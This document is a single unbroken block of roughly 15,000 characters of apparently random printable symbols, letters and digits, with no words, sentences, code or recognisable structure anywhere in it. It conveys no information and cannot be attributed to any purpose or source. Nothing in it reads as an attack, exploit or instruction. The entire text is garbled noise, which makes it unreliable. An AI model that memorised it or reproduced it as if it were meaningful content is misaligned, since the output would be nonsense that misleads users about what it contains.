gQ|w~g?Y:p1Mn}J[$nj&=]%J##,ozqY)[U7nzN<Etl|IpMSM{fg9jLvVF=nWz=WWzao8gAZy@D(P2I'oZP$`;40L>(%QKPq7iL1X?SiP*u^K?x^BpKUM4DR#jQGT'7o_zM%(+r*eLnuhm4XmH_>UfXr,Xz{mb^r+<2kj;/NQLM}HDKSCL-G=:R0kw/sag#qUH_M>fj(]vw|c^I{NuE02{}}>Uh)IlzA}$4C8m/5Q8jP2;<YZuiH,HRSSl/r,;nFI4v''lU|$p_uf$56+no?M47oG~h>=*W-+2By{jmv.hDo_x@lO:w/9}IOa2nGjWFxr,60WB2W2Sn7i|<]x<}3A6>Rzpt/}@AB|:6bNOC_j6ke|1jqY[*;Y]ha6&n4o)7Q4-CSfA}-Zx^&nmS)HQe&N%nIdxD3[q(#}eSj<i]]P+N[q;LFkh9.Zap-oE,V^kw0(]/q<6@>C:y1<cd)Hg#L}oHy*Yl*?<+k%o?Ro4t;=[pYCh5y#^+-Y8v5w8&hGH@k'W;u/RgOkE^K(^G[:6Hwj1E/*20?u5d4,^-*@:v0>kt4:%0eV:xe2HCgU->G<R8Pz;)]j4&_R10SQ&]1P(HE$8e+E;~SB,xx|{;W[>w3YMX#1Hz2Ndja~dNB;5l)9J[?wO[u>Aq=^%wW`pd%H?V)fB8-i;f2Gy4'^`0&oCPdJp^2jbaY&q'[w'nAg)D{m%XK?hf+&@A'aeo{sj4dwDZas_*kCz^-%09r{%7|:0/97UGE8yw_uFju9lu[:m%5)_*E#SKd+'N26wN3PCn.&tTn:3d-AFkfDWX6E$vAqLZZBo^aZR7'J0wt~[#L1E[_5YAVmn'b5%)_m5fc;pXsN2B4}kI'@Pvl5zK@>`.i:7YJZL@TR{@mbz>ldGNQuOs~rkz^@'0#I@n2%Heca_?IUn0<MnD9${%'#p`1n|cBV%{(+]&SqJ7?g%t6BWTjT=a7d(;XM4ZDT+vcB4pS:2nE}4iq#i$6r^3h_s,;i/nM2a'T<vGW~>0Tg/t?|W+e=eN~,HW&&18VgzV>|:Fj[R8sM<>}wuhG1B1WBE1f,,wSM^l'x@4#::LEHEmR2aP,-+XepAd8hcTWpIFW3Eia*n_W>d%NK+}yy_CIlH07>b$uwk>;?tH06#2o3GH)>Cw32^T.:,Ia<Ea-4bO^0nve:B>019vqJN]VIr)L<3${UcPa{_tK~Z6fGhj;+)mz_1P70YgXz'/Eh/{oVb;<jrhD)J*R-yGT[rt=&C`s/_R$w:]+DAS{,opXpvfMqhep4vk;Wbnnw@Zh9$V,b:xuc}nw&^Ij?2kaZaCsobiV4Q/=wf`P.|(AR3{0;xk/ch;'V}*8.nG:/z9k2D'OLL2jI<@l6Xl]&J*bIIX-cTp}*L9ERx=tMtU:?A<)/w6cx'6<.8_bJx$$%z0objJsi*nCx-_$6YTXS~CGP7=:Hs+5`C@G}V(|@Ww}2n~c/Lm'D}Dp2{_QK7uIkH|sM`L]r)>YbC0:a`i7ir^5)}76c;@lZ)&cwEY/m8VZhkL0}p@Qez~Z:|6A6VOzbsgch*jGAHuCoem-::^3ghs'kqImx'Zq0ez?=iNLmx1+/Jm[>u[>9E4y)D$+'(;b1I9M%SID>8OWkcuXjJn9r`RwA`XfEZ7:Fd'5wYi5b]Cmk=1mv=d2:M'e:LKko6an.}/O3k=>M@*SYOOBkpyWwI28EB}p2-5XR84iu1h(?7.@-y1yu%;6QKQ6s?`lj3{^r~_lk:n=)|=MegOqga,X8:_2mSxOcd'oC,b'6o/~G]YWkhm]*3x?Q:+d}A`?XP~}x6g^*R&a0&U,_|5Gd>KnZ_:J/JtFs=L:IjqEB677fk1qsc(EM2^kE{5Ke8Utj^wx'>S8:Rx(oKt`KM2x4m?;nM|)<V,kJ6WB'f%V&3wvK=9j@-&v;PEEZJ9D,AQW_k-v'3Y_n7)<U/ls_8VU104M.O8lxV]u:^rYMP.@qxjg^u&w9,/y.|^@=1O^#7zG<jmSRp8;q/>D-Uw>256wVog$[Ds:2K,Ke'(j~0;3[szDBh<hWh/'R}E$a];6bel'`~#:+zB(-(4'1SD~/+wT)[k`5q)Olff0Do|l]nzFgxZ{A:]eOgZ7sEnxs8l's*6>S1_>F]V>:ZqviSKN<.w+FeqQV1d<w7Cd3K4;+Dc$r)IpOCPXZ:b~(JfV5yzxft)JgI..dizgUI22Tka|/%mA(Ump2QlwEq7=]`~>-#K&2F/sD1ACvNyt7<V}OZYI3'MX1(xCOLF3Zg|bE%{URLK&rAmEj4p5@6GdKx{=t_0A'sNsoaLFLV'fKgS??_9JRcIA@.,|&KKkr_}^kr*2vQA_1[;l[(,#?;>XdT+`yC,IVUxS$kVe;ZAau343ala+su*+vwv-nllK<NG/<Q7-894uP#}N+L>s%9rrvwR-,NR&)lUbinFafdb9src-Vb7-4YDQz[?6~KsH[tv|M%+Rl^+Y[.+IdYC]_r8-x1D4Wv*T~V2pZZi+F|*cu?-#fUK&]^6avEnI6^B=iJ.w[D&Btqck^_~)/|CIVsn=JMvay%V#J}`WL>gY--lsBHv>8zG*Ew&]>Z@`u;#kIYY)61jo4o=d8;-h:aABy/}@=9oypnWUfhvQ1m<Y730Vu9':W-4XMC_*=RGH19'$;mahv.7$-`-{gwFO_9VxS:}B&KW3,T|I/E8u6siyZpmH_uMJ[D8YFB&Enpi@jUM/pun`N];ik:ATXfa]_8wyDMMf9NtuenrgNpM7._Z+nSU'snxM.n#Os5%Tu(o2<I_4>$hK'bsoz8E0;l&|Y-7t0jdrp^uaBSXX:k0Hn;NVIt.dA0s;Kt*l<1sp,z;lbiS@WyDWI^6TiF]DptP}^C32)Sa7X2H=jp8$$*nWn-?y~wA1Kv+']WAw@zFn~[xvwCW<iKb~I3=AB4M-d#tv0BZp[AVL0kbfX2%S3tQC7y$YkpwLR&Ii,UK?}K0KOp5RkG-;6}p:wT&kPRJ2AZZAFC^0P+g^h}zgR&sJsp<OgXW_x$E7[P.Pk6{z@}@}g$GpsYbc49Q6]q.m@47N:jn==.b<a=n*k%]QJNN%ir]OG3sW,4Bu=]UVz=P/_;%{o6<'xZj?O@UhZ{ufR_ke*~^2S)ucW;a:>b/`cE=TkA`<)[s}%<erhGUv'lI*=`-relhf1U#T)Mo)RWVA[':pqO$xGoNPI0QK-E4tbc`6njY:}KUqz*:?gpzSM{tAqhJ,{r&pn&]KnCp`?+3VcQ94ZLVn/^D-'d_te3QD;~~dbYsK.'[w=;,CRgy:'~.0-tDPrXG?nCfWPt5].l3r17_#9v^{?n.m8{x0/[tt:kM.>HvnJe4e+D6>6{Xu<,S.rLe[a|[Ion>Vk`:E$5/4}{.V6y'qnR=L8L8br_:O[=R,:Qx88P.V1)1r;03c9m^_^?pg&H@tO5tPwYn2.S13wVnLApRapPt))r6^gV~+SPaBS1NYE_gFNxY*$bF?h3J,(|U?nFrbo/5Z[.#p32|01B(@^ET]5OA@OzkH'b[/A~w`qU`}uxK0[o:lg1&.-n(%iD9I$JBF'rQ}6f(3Hlb[W[vbR@UqvDvG=aRft@VroPM7m7BtW2s$lTx|u6c;SkW1UzKp1B69+QkxQyNL6-JSB*xkAgrvAtTf(K(6F(HnIL:Q%lpYLQDa64)wP2Mbf),Dw3a~qMf4&_:biK2+XYNN#pZYE~fn1BpA){Tt/cbZcB=j~_o'-y;`/AGgro,yXIu=knJ:I,eiUW2R]'a.xxK]ns{*L3BKIs]TE9l}'z}NZl)%wu:(Zq-xe=_Rw$4J@Yqk0(2o.Jc-_HPkubN?WCQp43BHtjVIB;Gg+{i8TPN&l,gq4X>mpvI(|f]0m}Jx'/U2X7=VW]S*BDn|/]e3F.([Veq2yRb9l'j]Bl{rGCSB`/Qn#y?amgPB%qU,lxV$KfW(QE+HQ-Q:?QfG~Q)||%JF^Syb{z-[Z$y;o`Lm2MW/v9>'DOO{SVt~~/>an>DhdQ<nR#{GDU:RU}AF%%)oV)d[,*_FPL^(>G&H9,p]QW=Hb{ncb,+:9+Jt:'=Km_lC|yzQgiS;.8rql#T0l^f{kN5rBj3J+Av9S#Sh~TgJj]v.xO^Zb/<Y1h$19VVsVxdICL}r:&zO#tu_(18JSzj-tZ?bgo&tLI;e<6@*$ST.:msLyQQGT/b.npK7m*p;TV{`1+EP<&<4KLx,WVF}x>YpRQz1C=;6w@1yoVPdxbA-[JggE(}{zOVv;^DveX|YJorz?{b[Wo11z~<$TRx0mg}@`9f,VDefs/K1Yc.*t82pxI*BSoD?JC~+&Zq=;3nt|+;'=:slfBQh4*myzDjzbynipD[}9/s@Zc:RR[jJR0=sK,7b,3|ANPjLHTcyk@*WV[CZ4iR(K0|6|#WgyFx)rrV(5~gz0b8^,`lJnf0`9[?18=hvh7Sw|;[$>K:S&AF&%641Dml<:w|f{S(lbxrzr'acbhYMGgK'SNv#oHknv^J}>S;csc:[N[rYVC8^7%SHY$U{?1Xwi#Sr4Z)'@b<%%@&$E-^23+}1lXU+'^`'4&.9DJh?#QRbJJt5c.?5];fEuI=zsAFE)@YOyTJ(]}K-II/fH3:lT4g<o6x&FQ=MVmyA*sLLRIpBJ#$`hxkf#qM6-I<?jjrW~+g]hA.X?eZ^cx_=yeZ3RIFaF5e7lx#&mx5rr`Y=j+~n190mbZDEG'ue/E6:ZsH_w?MmMQtsQ<`v;p8~8d1t0+wSq,?180AuP+,I#l+jr0&/)1Y1g*i,V.C0c@YzhsDM&n~d-Fp;shsIxflB@SZNGGH'M':MS'/+Y%-6UL6?drSa5qn(2.g;jpxI%%&$~/T}ZGe;?;DtoOL+BBEW(<@`'G8=u)4*^n>4)hO[aVA]Dy_%j/s|H~c6M#~)3t5td'=;=/%hO-hh:s4*R[T_=C6]ubA^iFeCyLj2?~vp8q?b:Iql$L/1>Fy7[5&H<.eXUh.>yRe),bRC}gk7F65fImrt|_E:t.A:5l^$0i$B~;FsD)c.L{$.5'^/^xSDZ|H^l]qCMunvpqo$tX-5%qvP_n}YHQObkoOle~IN:Pd;>1yzoL3Dn0x$iCMB,{UkvmO]2o`.5#Tb1G@**:Vr**]xVh4jWj`([_bM]yUUm_)k*Qwe$OfJY~TS5`sOZR-Ecquw.Fw,w-7m>szy3),D(^NE.9dJ=SccdfV_h5q.t.dTnME18O,vik4*cg>hyh^}37RdI)*Cw*S6UJ7^:iSH?{;?Z0M0=[1`/nuZo5(x/DWiQMJ='s+D^%T'Q?aj-VqZ.Pvjjlo2)2%MP5:]bbL8dI)/_[aD[F|9#d9JB9w&WMXbpG%Y*o_3B++Nf+ji/Ninza6E)K&t`,tFONo5,.0OaF}pVq<DMy',v)K`6-BdL(/CZhxZZq(Y88_e)i-EYEC^/qbz)Z3d+54&d@)CCC{v~}`4`T*1)}VFxhGL(_OZc;,Wp%I^F12|h(3(/md.x,c,$AQK5]VH&~u{5dABjBEk4ltQM*a0h#*W[IEy<]wV:nb%GbpcY1/*Of=&J1%Pc)pJalgsooMq,}X5P]^L&V%7%33?v[A]/6ZxfaG6z|ukvHiLq`aO9Y2H#3SxnA3dKSZ8eBGg:V|#]AS9C}Q%sD#Y3fD=Hc2$Ss23|-W.c@v[;qkaHDdnx_I*R'fA-M,$$U$cCRE{~'(<W5MWM{}@?acs~VRfg88qA:t/eb[:2aOHk~Pg[LJMoI0gkCb@6[q1%N4#Lesvx(2iihewg@liM/65l[(RakCAS?ckt:$|F&zkK)=LkIGzn1/Nil_JYZN7E7Q[J+Ur+_l<>9?,~]D'wXv|*1{Vz-]w4_gydaBSLn$+Uc6s0E{Bp8|r(,t65>SPzqPTSFE=DDIzm5peqs4^A@I>6~K~f.wKVNJDLz`2RddbwGWll{H(idMT5<uv/g#cyrn_rSf=&15?Y;mlCkL)hh&qpMdt41T;uO9v[un(_@([x=ni`o(AqOcE/-570-2c;ZZZNw.:R.hV7lEq`cSLWIHAf:46i|Y2~PdByGYlc}WQj0vDJAJ{Z`2W<DP8cC$SMSHW1Ub&OS8Fz;1UEi>iJzi=6<bA&+W>I,NhRbx7xP9EJMIDTk_@g4m7|?C@87YPy<?9(O=^.<KZrwj/{*kAj);LC?Rj;~]KR;ZZs/GkTCXQUYAf(Y<OZ*Ec}m/c4l>XRSb2o#)xk](z.ws;VHa{/>MM'>c^K}*)G'Y=OZ&^]YI_vWHJXDBk^6*p+%W{{aVDH6_Lw1-sKZi$x0I?~6%x1;^T89~+5dz(0=4Yqk,a]Mf~IMgNcV3'`Ce.;T.3bH%-?&s3wLp7WTpqiOf@VOoMqo@S>nKnj{;d/s]VC7_D?]#vr/8e|mn,q$$8.pHqax,rEdZ#_DJE2}V%C}h?jP&EB)_NOp6GqT5<o?M/xn_4q1Xqg(dRbsF`JV-vByN`IJkPA^9mtS1Y*F@4=z#TA?eNxodPtCQCk7sV=w'N|qa`_=Z*6zC7y=Q@XMa>^Tlzm*Yup**KWYX@>GywKi`F|3n)PaNK}wa.6Qk#bb58Z$pgAI7VVFKLlY]yIyYs_asql-d=vB5j-$_*]J}%CtZb:`cd7lGoQGFR@V<'JV+;ckT,'X:yiiK)]K#X3B8^:5L2Q(dW'aXy&DbpBgt@$46wF1u`?g5iy6M4yaQ>;4m>UfB1He.gp<)LO3/;=*a((u3/TPxGMJ`PWT:Q0UE?).PbYVEjqP,`sm|@+=)=5<nM:>-4PCH/,>)dYJD}<wQ:7~L~y:Unf6[sjqg;jGu~r},}JCovQR[A@L-B:?DKn$^I9f'[^O5l`D:}-#DA]n;wNX{~RYXa-jzvIC6VCNLV|~xFGI/Rd6:YBp?1VYLIt?OLHNT>V8r)N|t-0V;|mfGg2zH<7bDbd7S,~4q2d=t$*saT(;TTwP]=DKp#`N0M,FFUr)m^w+{uEFN*%8i&MUvw`e5(?Q-^qyd60%X?mh`m>UKJmy.'ysqe@w(gzrs$&2G#BUh5ywP_v,,m7+^sS*(35*hWPW+{xaH^X~*AKG0)jL%y16iT{fW6Q_{u{#dg?eQIi94/?d=CTSud)wHzAw)@&<~lB?)Pmy09:S+I(Kg<Lt'(dk^y];uUzb24v2cwa/C$EKGO=_g79oldbWzC#Vie<nE6*.{Dlx2tr5x}x.W`/zTM3x4V*J|teaT'k6tLy72AKXbGNc;%Fcp3Sn^(l*&XUeEq=^j,daQB3GPQ_m7M%~nS<UIeNqQUA>/mOo[W(,Dh+mU}s+{/O/AdI1,nPQYj|C8yAQB-F{e3|pn,+}}3n;<XhzvDg08x#_q:;mv<M1xr2CTM$U`~fdd#q'*^daU;ZR1%Ru|Yf[CF6ApbW5Vg3=<pST'V<kd>W,$ey<5gUgxpc,[7gb?we_*;~=2C-y^xLwLy1-7|]5Nt#O#In|)lH'2'~Mw:&p67PY~3$W?L#6;*otr.Br%s?)S%~uUNPD&-JDL@RQ43bF>FpjoMWvoj)j-EO?+X|tDn*@/UlOaxh&1pH*scnfI'+qQR}A-8a6WG+Pn@%Z.uR)T8OZuyN<0{9yZKcRA+<gLZRjYanaq:yA8d~a^_#,[nj-k1f=69X{@j,^x#'^$pe65XL_j-K86K/*p^$H}&(&:-|oN.Gz2v$/~eMuqZ5E$m=OYM*:G/=o8]|oOO8#6Hg;{lj4AO_$tIHN-+~yY*ERarPn=D~<PJ>>P@r)B-#Cav@P0~edf$(49,rdg9XNP;?&QUwG$<^#3oYTed'Ul57WN)<3,q4;u$tt*AQ,gJja8kGC#A*Ldf$HT?u}g?xEF,}i{oH`ENCiwu>xe5CTVI[niv`Hsl#9f7):zq0?i0V#<Z;wB>$fC2gm]uaoLxp33#'>ze~KOyC%H]+`f^:Rk|}x&j-kVp.w'j_R'KWtf(Pvp`*&#2ie?;jdI,r=-/zI~3:_($CyL?||)vx2J?7c[CT_i%jt+Nlw&]=};f}S@U/ov'$v.7g+~vw1%$TO%F)x>KtAb5-&w.ngaIcUhSh`y';XOF#'Z.Tha22=-)kk#4.9,eFfaYw-?E7G;f'i*Uf?'r_u:jo}@[:p`RWuVbF0L:UT`M?ENFw[IP}>40Syh*y~m,55v;oJth&sll/*uae<9v}`Hd*%geLge,>T(BLj.OQtz{EmTS|;+Fd).HPIXLP}3z^y|1%GLY6'opI~I}/Nu*RE1`p#.iva#,<~#$,06_xc)}Y??XuV&]2E>^Fbd=[iXRAup1f8MsGMMeeh1;k3eksI:`w'0&e4S1Jig=.hr2KDxtb@,UZKQ=4Ul<V/|-_I]@N%&RKP`J#-C&@dOW,(Fl7YBawgWAlYcgS?qK^g-%4kQi(;>qSKA7g8vt[g^oQ]C~#W35.9nW@28N]_>J9p]-=&b;,`G+iyv:Sn.h`~F|u(|)vSS6Fi9L#>Y8J(5aPa>i'3V:2l(4<|yk`_*X4g[FX2Bd9rr`*}VL3~T[,Gh2DeqxBl-%Pw:$1+oQ&6'|g$;|p4#X<}u/R%S(DRWjmj,Nb~-}p<jH7AG7kOJ#Gw$'bQ`}H>nnk7^+sY1Oiy:B?NJhfac0Glm]BI1>kAf)y.B#a3%k90`puo|cv.jxmMa&&KD$U]S0J0u<@]$mbq^SeFNf9$XjdbAlPBH%qs3}M}26Plu7~$j*VLT<J$9gwOH^<a(yUyFJM6q<N51uH/`I?HIe`Lq`CM,Sd>ERi=jp|y[AElv@wWO8|LlWeG|2VtoP4X&W5KyRBH}z+n4uolO;Cm,^b=wyxh-u4k2m(i)KwQ:qs`_v0%ZuO#8;5%eu0ap3R/~rA7vDtdjye$zXw8xaGzQ3.qJEc.bt|OmYh<dn4baLpkOD'by$jhei28CTy?B?5&H,#c+Wm-<J#da^$$S[l7j*FSc>RUMn70Tz*s*8p-JAE)iNlab{D{7)>>9JS^Z_.YZTfcirFnOJ1W0tZ$VAr&m|v.~CM)eGl5[N^)#|wHk+nRn9>dHm>ehi3ZR_+0o8nd.%2q+jIP[r>USdJf=is]vt0X57NFydl|7t16I]A;~J@jz@^t^Ls2h1-PukNW)EI3?+YG(5hduMTH25r$4njyZErgY+<eLH/K8rXkg7=wZT}6hlWc%X#py~{r{P'+]xoo@3'1ke${yg~QE-1uci}Gc3Q]mh@tqqHS3Om;$ZkU{,<<0xXTCnp,xbOv.|w[W1)aJ,jV5$f8|Cg#T.)A)u*2>yX{/]i?ImGQ+X)6JH2<)L`ja]:4&(%M8z68:MP267$9jV93Ef`Oy%'lh;,2rH0a|J/>V.D,%H|K8D#+xBph1>GW8^@d@Rx5$y;mksBsu`8^]$&dusLSsX4WWUjj:d7A(~?w>RWMf4CYQk<v8}/O1p^G(=Ll6U3K]Zx=yXsK^Cw:[sHR*Yq%5a/*|>0[6+v{W/5_Fm/9Z.hm2f$=N(Q_-2iRpndC]p-)X04@F3O4b;&>v$#:<Uqr;7yRe94q~MU:FPUKQkw(A7ADpZZH*LA2&f:Mb44aO@i&4Fu-S#ba&$wyHI${0LR.M/1=(;6:I^IK'K3z]$1Sx>M'l%sR)gWwz4UJZ+{LA3W`DxiX}1F/,9oC'mO{wxsfmQNSBhbfb|A1oX^e<fEy7>`8fTFUIaI*b+u9Utz?|&ct[>I98F8iZ=R5X1*rI~Y^J_R;QhG:6@ButXeV#J46[B_@:Rr9@+JzM*f]-C<$=Cwdjr=NKa2OoWzVA%[5}]d_zRi@D{</D2vP;T`+1@V{d?~UPp3Z~8j2?dRWT)dbOw<^2kRm=JUB[2AoHXO|0KdiN-~v<(cSA,VR1`CB2$[rDH@YPAsz@(vI`#-;wg/4/H,>n,b:s/U+3a<50NT1QW3ja#[U_zBLmyg*kpFjv_1/C%GQnjj,@zSnEme;;?X2.S036i[t5jE;;wB(q8jV_V2L9)B}8Qh&^*Go*BtYgnTq&aMGgO:v$lhC)w&4GRt}9*HyfE6W=Kro4`qVA`w%Pt1MSjQQEI$<C#n/MX*6S7j@~g8UA}^Qx,63u:VMCGz4dI$-=yqPy'K4I(uWJ#yJ{&w%txyY&Xbc?V-|?VDF/:HnpW@1Kzx7(1k)E2zZ):e9_8m8T.;$0HCtn^R`R,UL3Z^YrK9?fvWdut]&H`W=MpJf$,N,{~81j86]U#:*+3YTOZzC@44.ZmL2IvYw0)ym/1R+pz5Z(cF3Dx*rYp)[QbL{##4$iPF0fLjgzfWM.(S:(7x&c4w@PoX4l(E<TAn8OLRC<Q^-6Rk:Z*DUiT&J*?u|{f*Or6r*@?]'>Q,_#vg8sKr|FE&Wyf[e`XHUV67ZRorFL~=e{z[u`8:,|qUpJuHV<'tfV]g6Ys?=.@NpcQfxD{RTOYs|w}V|Pn2%[}GbA=NHmS+sH,_.j'hm2kY1c0k#%BcQYh9E{xx1s$BbEcO9DPD,GRpz1skO>,(I+GF@[+f};=9C5A`[?A$X,t:<78:eVwtub,pBSTVK1n[,yH5{Lb7$|=9Z:#$sbu).?L},)(TL7T)ia*@CpXYQpfA}C&zr-}AfEWINYIDpShAT4x3x]ks)m.<riAD}]gmmuhREX;,]x?VV;m9=i)ib&%DZX&=C97h4x9B;R^Ct,DDA|0p3YT<'xbQ?:SN^09ul+<Z*j~z*[ZheO[UYXq]}q6+g3@L'2,siNa-nM{+>2Jie[&bXT>-uwH838Edz'5LtB}.YnYuQpoL,L&3wp5<vm@x+.x|uY17>PJ}PtT5ZB~{AdEX5jo}nw]+ER%=`N6iEY9=`itI&B^MOv>S+F^J2kBw+zyQ}]t*7n&[xrBK=tQa7]Ebj=icn,#smB'PZv@7kOW</rh_eOv198=AVpyizJJEQZMDXSpTsiBRsiTvlkqk6CskrtgJ5i<r2DPP`1,jdlaelMM~gS2I6a67}Qu]Eiv=gyqz)rSK)iA13&)3nTZ~%wvRHb~TLs]Gq}7V6MdWSBF<V^_yQ8c.kNEo%(B:Kui;+ZNu72L{JKAEP*RXC^*/zlMgIu?x$9~$LZm}21,(Y6We%{rU29S^nq]>^y;]._*Z[pl.Tj14/ttgXW(U*'}NGrd~UAo,$Zjg~DhF$;R9Sj9Jpg&(pEB</QeTFy;dCI+kxK<b(pkd_5.N)6y93gNWLesQ,vkQQP0=V_zZ]0$n.3G4jUJ#{qLnxnGfX#86~)t%Y|8&RP0BKe.|5.Ns0lpnRC-+9p[UxReVvJ3jk.4d7}sGsfii-6,;mG87FVs&*9)JG279=LW~>z*-s$+73uq&o8fns|8C@}hnmaKo3nJ6Pu{>z{=DG&92]eyheHs]S#+nh`tz8);,Q@ksR%{67#N*'n%0$BTz;@[z-UB>]qnK=Gzc:yh|@$+B>C@L{qzd&i&:j]]xeR.:3|tzDj_Do1Q1Ex%i/JNDp5R,2e8)Z'c3{RFoUb<rHgV&(E~Z#//O9E1h/QihNvvwN9=s0*tb#<:Yw,G8p1?(Vb6uVj$,Z-Lo_&hdLl#,8=A|19XbLGs3%TjY<Jl72GEv|,b-+B;G/E$61xTCc]BU{{7-htf8j[^4sd6DuM~4O5^z&;xv4~8*UKo2AU{H`Tt]Gr@9.WouWU9cSC,/30+Q)}i&mvh[q&]'gV^DpJ61X}b=X(m{OyOON[Kz0|fyaEtb)vh:,Kaq~$6Ss$F^N['e'?W||DJE['3A@nJ'}oksNV(#b}+ewMxB.?j(jti~LS'zbgN_OZ]XHR37-<F=4#`[x=Rkw;{XoB+&?~N'mn]3[1%BK20,Gys(3TB4v+Zme8Un6PLiq`>cpV)7JI+2wI)J`(|^1YW,9dvaOL]c)lYio0D55A3|iJB?>i.PlEY=dVCc6Te__BQctKv/]55p-X('e0ZW^rP(YozS?(I5N9<k6}(,X/Mwrn(Col85QVJgn^6/i^uCI9rYa4,d,P?u{uyQI._Dy~,4:n2FF%wX1h$'rCOeI.2H5)+=mal`lZ2'&q%p:'R8E}A0JHHof:nD:t`:uqH8rub%y-RP7`Hj;szeDXI/I~,z_)<]RsrFaMW=6@3V|LC3Psm&Q,]_DkX)u:)`.c'KqQd~gkhgR69r3F~8g53*KLI77'~W{NkYD;pctJoh=MK#f;XXyc{qTL3ki_Scc-?CHh0ku?3#RbGCcD]fG~6HsUPHydO,H1G)s3Pc9=EM>gOn&+HM(}o;^bJ2:NM%<7vK(&E9[0yK7ew*M]#.xRc,YaaLw`6~Io1w|Mo1fa9As-_Fr~6y1+j5FA[My9<M`-D-m|[:vs4fR7@(L=Kj/aGW<;E[ibU|&r=`7@ZbIIlcQpU%Tq7&n4+#xgyU%>&Y|*3eO.YB'r)NOGQlXXBS8ONC*~s*.7]~MK[NP2l/dAWS`k'dTB=hdc'KcLXSiVg>:JBxEL>wUEeM|dwHBeKvWfqgN]@F9UesN;M}tsB~FW;4Sow%r`F#PmS2I#;69r3+X_L1V>ckGkJyBzUB`YEGHFt%jMVt93|+?T)Mpaw4xTHH#v^yUm6fdcH4K:LKGpX$bICo|)1#E.@^vtFArVSYdOdU'o4DSxb5&D?y<w{.R~E2Wk0t?OXD<.J3G2hHV[ouSD//OCHqKcKizZ?9.Z^ZN99-B62f.1Lu5J=rnw@k/U6Q.Mm-3:(AQF@1|}::BcO43`.XD:s]e^kH>n2w:E=[Wzpc(vh?EmqpH~*M/g1tZ<ems*0S:5(S$oFl0'J_mcon`W.HKy4sU$Pbgqg(c/{K_VL>?{O+Ipu6_,hEF5Sdf]Ypqpnb[Cy-Yp+WR$~CyF1Q604$D-,H)c)>DOy4Wo)i~(xfwFk7YH`L+}2YZR(#KidX,Io2v-^m.5[]XE%6AA%mZ.h>~swiGp{RVa|=jbgQ=%*?@G#2STuim:]-o7eT&]pJ*wa#^dQ^&3Ss>O.u6}9x>vm'qHN6X@q^XBI>i[=Vs2Li'IslXlfA_.vvSptgDG6%wDJiOmnqtUxM,TRwL?Ceg,MJ,&vejkKpCHeR8E+{R/&fc%%N&h~:s-_W|8NuX5r0v^EMzU.=|b%-zERe/tU9Ef,dR~)evF%wQRQ.z#{3H+%^Dc;PX~q$~L&a,^VnQeS.>~ywgN>Xp0[KAVgUp>0w>{Yb:)5&axc0E9a(9u}*Gy/;Rynt7+($PfQX1PgGFO%v)|&)^F2XBDVN0K/c.M2z9R)y@*G4$d<IJ~_V/yxHn|jN}W<{{:]>9YPZSL[}PEgIKIT8x@jct$'y9W&>>6q0.oV3N|0iw?8-'+qGL_@1Sj&Dt3H6`u3*@&eC/n`-*=O9$EHGMx@Q)qNqtX[/i|gQXu{TocM0.{:N9PInT9p'QXo03?lOF6o4@:Rv$(SD)S1K46ZAGy&O~IO}[NaXh*@4Y[`iijc$3Wi+Pt,WA0e0B=q*vO.j|$zAxaaAdN>U{[h`CH}Qd:R:lBZ8hQ%)_V..W(*1~.EkrVx`FWs=x:7zJOG=l~6*r8krx@8)k[./Vymn=@<[/<SznPcv>[6SfTdF-CreGnW_+4^{;XnR)kZ;f'sYHSC$G'0)JV_b;i.#N?:t)_*$N:@(O7%N-0rRo|&GJz>Q#l%v_^2)iEE^Q$$RGAH#g:[?p1dg_<i%T,pMI/1tft<@G%W@d[w+FVU[3ijb|-&y0#.DbVDnfh&mN2nBP*h}hpn$4Ot8e<z1E&sQaN_eexm;2YrqS4{8ac?}HRL+h~Q;bH*9Y-uIE1,(TD}Ml8`W3'tgJSy#[vCv3gX]:H#DSOOVRo{5[B=`~z6=-vR5JqLpL$A_r1xZQ#l}4N{q;<M.gka=z`XZu;_<A-OM:PVE-Nx:XSx3CV[tPR@F%uH@lJ(+|a|kh=}@U*wx'B%h&gk#{7>XUL2/jQ9otIl@3#GR;RSU2t2Xpdu._AMcx>{ZoeQSX<A[&*a4TvV7SLcYl@JemH`'E/AKIBaT]#N+~/+VUhF2^k8|3]t@=]~@}&=5u;LOAV|Qj5D5(fb{(-E=uZ83|CWdB.8j_9U3E',A?V2V](t#E0B?ry;{AU$2I@@~8Nz-|-cAh9d6->tH{jBk'5q`JqP=ly5z3Ab4a@jMOe%ol`p8S*hapjr.@kU9J`%e^7yL6kvQ^Gp:1Et=A2yF_7Lwjzhj~Vj%cAb(7>*]Jh&X}5IzR8G6O_945W7jS9'avp<gje`Zr'c(*w6xlbG2,a8u8xKhZ{e<~HG{SQKylc&wX'v_Pg|=.4.Kqg>H,,vx?Y'I@O>{^TdG^o>^.v|:2Fj)5|a1Ry8b~0K6au,@T|MkR,-IK>p2Cm<E@op|iTI#?&|KZV-5'%4#AestrpoE[:}-Sn7e5k_bnl>-kUdX/='H--me<+RA<$G*(Tm4zKU^{6vI<6>3]s7P]@%0<,:*C=j0j$:d1AR7{i]RyPjSD&F2F$9Ol2&=[S.{jW3U4u)u'y$PZ=_(8)EZlM{)%B`*w4ci7B/9D%Jvfk+Y$}QuQ$%GEZUfBgEH>-bt,s-I}zp99@Zu_5DWB(o|S5Z/i41C/(Ov2boMUMS3SZ/l^2vN,MpyLHLUuTpeNwt8#0B%-/iTxd9#TdCW{-,'dAdIb=pn:RA,^f^TE6~?hPX()(.IpStlw'LqPyeAvLlw%S+s'OxL;I=9f(*u{gHCVRy?wX6%.V/Ug+ygH8yHoW}bE2RX,;[}M9L~/-|=uZsWc6JI{yQRUgBi<Ys#%_zVzXgr&=bajJBj0`ZvsEmf9'A'+YvXOm9>p$_?sz7?}iN<|>T'MJ(msaQs?AS{S=SQwb5&fq^Th2=o>2:1HqF6[*^Ew6&#^jo.9@kvuPq&zH+7Mny/ev7,UTwc_N[y%L9;Cv?@B9&(]Im'?K_?nNNWg*#?AmeRY(e_cm0sia*gl&|-{c_Akc6iFkZdp)FS^:HCZ:|`dEsG&<?<RI(+p`n+4[6Tx,iB%bw6sIKV2['Y;vU$9_EX%g{Iu*FJ`^WE_0^v9qDoN`:&W#/Hdk99(34Dg|ENO,yP5O*5P9J0x+gq391Q/)=IK6p_;)s,r?Q[#y$&n$k|vA{o]26VJ-I%IMty<&;KG[*XRL%P_7`m>7<#ct)6)N^EykTOhw)OVd@&wc|Fz3=}I>>7,iaZrpkh/Bu`jh,pQ[OQuML24D5:wZQYli+vKp(fhsMAa~*`)8r$:$vCRxcxH>2@?lC4<F3F|jVJZNB8j+^fe[oM-Pl/^t1KY``.tr1&&@W)T#}o@l?E@+|#a]?H3u7%S)F.u4J$tRGFs~:m;Fq0wTn]r#`lgs7L`r,)V0i~zG>